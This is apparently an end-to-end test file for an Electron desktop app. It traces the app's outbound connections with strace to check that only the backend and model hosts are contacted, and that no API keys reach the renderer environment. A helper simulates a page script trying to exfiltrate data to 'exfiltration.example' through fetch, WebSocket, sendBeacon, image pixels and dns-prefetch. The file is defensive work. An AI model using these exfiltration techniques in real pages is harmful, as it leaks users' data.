import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { signOut } from '../../scripts/drive-app.ts';
import { resolveRuntime } from '../../scripts/setup/runtime.mjs';
import { runIdSchema } from '../../shared/ids.ts';
import { startRecordingProxy } from '../campaigns/support/recording-proxy.ts';
import { executeInWindow, goOffline, openSignedIn } from './support/desk-page.ts';
import { expect, invoke, test } from './support/fixtures.ts';

const checkout = resolve(import.meta.dirname, '../..');
/** The sandbox of other users forbids what strace needs. */
const canTrace = process.getuid?.() === 0 && spawnSync('sh', ['-c', 'command -v strace']).status === 0;

test.describe('what leaves the workstation', () => {
  test('goes to the project and the model, as the kernel sees it; a window reaches nobody', async ({
    launch,
    ready,
    network,
  }) => {
    test.skip(!canTrace, 'strace needs root here, or is not installed');
    test.slow();
    const folder = mkdtempSync(join(tmpdir(), 'rhythm-egress-'));
    const elsewhere = await startRecordingProxy(null);
    const trace = join(folder, 'connections');
    const { email } = ready.account('clinician');
    const first = await ready.database.takeQueuedRun(email);
    const others = [runIdSchema.parse(await ready.database.takeQueuedRun(email))];
    const app = await openSignedIn(launch, ready.account('clinician'), {
      executablePath: await tracedElectron(folder, trace),
      args: [`--proxy-server=${elsewhere.url}`, '--proxy-bypass-list=<-loopback>', checkout],
      env: {
        SUPABASE_URL: network.url,
        HTTP_PROXY: elsewhere.url,
        HTTPS_PROXY: elsewhere.url,
        NODE_USE_ENV_PROXY: '1',
      },
    });
    await executeInWindow(app.page, first);
    await invoke(app.page, 'batch.start', { runIds: others });
    await expect(app.page.getByTestId('batch-panel')).toHaveAttribute('data-state', 'finished');
    await goOffline(app.page, network);
    network.mend();
    await invoke(app.page, 'sync.pullNow', {});
    await reachOutOfWindow(app.page, elsewhere.url);
    const byChromium = await app.electron.evaluate(reachByChromium, elsewhere.url);
    expect(byChromium).toContain('ERR_BLOCKED_BY_CLIENT');
    await signOut(app.page);

    const expected = [portOf(network.url), portOf(ready.backend.demoModelUrl)].sort();
    expect([...new Set(connectionsIn(trace))].sort()).toEqual(expected);
    expect(elsewhere.asked()).toEqual([]);

    // Control: attempts of the main process past the guard are seen, a connection and a question about a name.
    const stranger = portOf(elsewhere.url);
    await app.electron.evaluate(goPastTheGuard, stranger);
    expect(connectionsIn(trace)).toEqual(expect.arrayContaining([stranger, '127.0.0.53:5353']));
    expect(elsewhere.asked()).toHaveLength(1);
    await app.close();
    await elsewhere.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  test('holds no key in the environment that the windows are given', async ({ launch, ready }) => {
    const { electron, page } = await openSignedIn(launch, ready.account('clinician'));
    const names = await electron.evaluate(() => Object.keys(process.env));
    expect(names).toContain('PATH');
    expect(names.filter((name) => /^(ANTHROPIC|SUPABASE|RHYTHM)_/.test(name))).toEqual([]);
    const model = await invoke(page, 'model.getSettings', {});
    expect(model).toMatchObject({ success: true, data: { key: 'environment' } });
  });
});

async function tracedElectron(folder: string, trace: string): Promise<string> {
  const { executablePath } = await resolveRuntime();
  const wrapper = join(folder, 'electron-traced');
  const options = '-f -qq -yy --seccomp-bpf -e trace=connect,sendto,sendmsg,sendmmsg';
  writeFileSync(wrapper, `#!/bin/sh\nexec strace ${options} -o '${trace}' '${executablePath}' "$@"\n`);
  chmodSync(wrapper, 0o700);
  return wrapper;
}

/**
 * Addresses that any process of the app has connected to, or sent a datagram to. To connect a datagram socket sends nothing:
 * Chromium asks the kernel in this way whether there is a route for IPv6.
 */
function connectionsIn(trace: string): string[] {
  return readFileSync(trace, 'utf8')
    .split('\n')
    .flatMap((line) => {
      const isDatagram = /\(\d+<UDP/.test(line);
      const isConnect = line.includes(' connect(');
      return isDatagram === isConnect ? [] : addressesIn(line);
    });
}

function addressesIn(line: string): string[] {
  const named = line.matchAll(
    /sin6?_port=htons\((\d+)\), (?:sin_addr=inet_addr\("([^"]+)"\)|[^}]*inet_pton\(AF_INET6, "([^"]+)")/g,
  );
  const peer = /<UDP(?:v6)?:\[.*->(.*)\]>/.exec(line)?.[1];
  const addresses = [...named].map(([, port, four, six]) => `${four ?? six}:${port}`);
  return peer === undefined ? addresses : [peer, ...addresses];
}

function portOf(address: string | null): string {
  return new URL(address ?? '').host;
}

/** As a window would whose page allows it to: past the content security policy. */
function reachByChromium({ session }: typeof import('electron'), address: string): Promise<string> {
  return session.defaultSession.fetch(address).then(
    ({ status }) => `answered ${status}`,
    (refusal: unknown) => String(refusal),
  );
}

async function goPastTheGuard(_electron: unknown, stranger: string): Promise<void> {
  await fetch(`http://${stranger}/`);
  const socket = process.getBuiltinModule('node:dgram').createSocket('udp4');
  await new Promise<void>((resolve) => {
    socket.send('who is it?', 5353, '127.0.0.53', () => resolve());
  });
  socket.close();
}

type Page = Awaited<ReturnType<typeof openSignedIn>>['page'];

/** As a script in the page would, with every means of a page. */
async function reachOutOfWindow(page: Page, address: string): Promise<void> {
  await page.evaluate(async (target) => {
    const attempts: (() => unknown)[] = [
      () => fetch(target),
      () => fetch('https://exfiltration.example/'),
      () => new WebSocket(target.replace('http', 'ws')),
      () => navigator.sendBeacon(target, 'x'),
      () => Object.assign(new Image(), { src: `${target}/pixel.png` }),
      () => new EventSource(target),
      () => {
        const link = Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: target });
        document.head.append(link);
      },
    ];
    for (const attempt of attempts) {
      try {
        await attempt();
      } catch {
        // refused, as it should be: what got through is counted outside
      }
    }
  }, address);
}
